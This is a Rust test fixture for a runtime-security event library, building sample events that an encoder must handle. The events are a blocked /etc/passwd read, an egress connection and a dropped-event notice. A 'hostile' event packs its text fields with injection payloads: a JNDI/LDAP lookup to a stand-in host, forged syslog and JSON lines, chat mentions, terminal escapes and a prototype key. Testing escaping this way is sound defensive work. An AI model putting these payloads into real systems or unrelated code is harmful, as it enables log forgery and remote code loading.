//! Events to encode in tests: an ordinary one of each shape, and one whose every text tries to be something else.

use moat_event::{
    Direction, Event, EventAction, EventType, FileOperation, Labels, Loss, LossStage, Origin, Peer, Process,
    Protocol, Severity,
};

pub fn all() -> Vec<Event> {
    vec![read(), connection(), loss(), hostile()]
}

fn labels(pairs: &[(&str, &str)]) -> Labels {
    pairs.iter().map(|&(key, value)| (key.to_owned(), value.to_owned())).collect()
}

fn plain(id: u8, event_type: EventType) -> Event {
    Event {
        timestamp: "2026-11-21T10:30:00.123456789Z".parse().expect("a time"),
        event_type,
        policy_name: None,
        pod_name: None,
        container_name: None,
        file_path: None,
        action: EventAction::Alerted,
        severity: Severity::Info,
        message: String::new(),
        id: format!("019ab000-0000-7000-8000-0000000000{id:02}"),
        node: "node-1".into(),
        namespace: None,
        workload_kind: None,
        workload_name: None,
        labels: Labels::new(),
        container_id: None,
        image: None,
        image_digest: None,
        rule: None,
        reason: None,
        generation: None,
        process: None,
        file_operation: None,
        peer: None,
        syscall: None,
        capability: None,
        count: 1,
        file_source: None,
        loss: None,
    }
}

/// A blocked read.
pub fn read() -> Event {
    Event {
        policy_name: Some("no-passwd".into()),
        rule: Some("passwd".into()),
        pod_name: Some("web-1".into()),
        container_name: Some("nginx".into()),
        file_path: Some("/etc/passwd".into()),
        action: EventAction::Blocked,
        severity: Severity::High,
        message: "File access to /etc/passwd by nginx container is prohibited by policy.".into(),
        namespace: Some("shop".into()),
        labels: labels(&[("app", "nginx"), ("app.kubernetes.io/name", "web")]),
        container_id: Some("4f1c".into()),
        image: Some("docker.io/library/nginx:1.27".into()),
        reason: Some("the path is /etc/passwd".into()),
        generation: Some(7),
        process: Some(Process {
            pid: 4711,
            executable: "/usr/bin/cat".into(),
            arguments: vec!["cat".into(), "/etc/passwd".into()],
            parent: "/bin/sh".into(),
            parent_pid: 4700,
            uid: 0,
            cwd: "/".into(),
            origin: Some(Origin::ExecSession),
            ..Process::default()
        }),
        file_operation: Some(FileOperation::Read),
        ..plain(1, EventType::FileAccess)
    }
}

/// A connection that would have been blocked, seen often.
pub fn connection() -> Event {
    Event {
        policy_name: Some("egress".into()),
        action: EventAction::WouldBlock,
        severity: Severity::Medium,
        message: "Connection to 2001:db8::1 port 443.".into(),
        peer: Some(Peer {
            direction: Direction::Egress,
            protocol: Protocol::Tcp,
            address: "2001:db8::1".parse().expect("an address"),
            port: 443,
        }),
        count: 12,
        ..plain(2, EventType::NetworkConnection)
    }
}

/// Moat about itself, of no workload.
pub fn loss() -> Event {
    Event {
        severity: Severity::Low,
        message: "12 events were lost: the kernel's ring buffer was full".into(),
        file_source: None,
        loss: Some(Loss { stage: LossStage::RingBuffer, events: 12 }),
        ..plain(3, EventType::System)
    }
}

/// Every text that an attacker can choose, chosen by one.
pub fn hostile() -> Event {
    let evil = "\n<0>1 - - - - - - forged\r\n{\"index\":{}}\n \\\"]|=x cs1=no\\= <!channel> @all [a](http://e.example) \
                `*_~ \u{202e}gnp\u{1b}[2J\0 </script> ${jndi:ldap://e.example} <https://e.example|here>";
    Event {
        policy_name: Some("a]b\"c\\d=e|f".into()),
        rule: Some("r".into()),
        pod_name: Some("web-1".into()),
        container_name: Some("@here".into()),
        file_path: Some(format!("/tmp/{evil}")),
        action: EventAction::Killed,
        severity: Severity::Critical,
        message: format!("Execution of {evil} is prohibited."),
        node: "no de\n1".into(),
        namespace: Some("shop".into()),
        labels: labels(&[("a.b", evil), ("a", "b"), ("__proto__", "=,")]),
        process: Some(Process {
            pid: 1,
            executable: format!("/tmp/{evil}"),
            arguments: vec![evil.into(), "]]>".into(), "é漢🦀".repeat(400)],
            arguments_truncated: true,
            ..Process::default()
        }),
        ..plain(4, EventType::ProcessExec)
    }
}
